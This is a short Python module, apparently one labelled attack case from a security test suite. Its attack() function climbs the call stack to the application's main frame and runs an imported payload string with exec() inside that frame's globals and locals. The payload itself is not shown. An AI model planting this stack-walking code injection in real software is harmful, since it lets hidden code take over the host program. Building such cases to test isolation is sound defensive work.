"""exec over the globals and locals of the application's frame."""
CATEGORY = "forging"
REACH = "net"

import sys

from . import payload


def attack():
    frame = sys._getframe(1)
    while frame.f_globals["__name__"] != "__main__":
        frame = frame.f_back
    exec(payload.SOURCE, frame.f_globals, frame.f_locals)
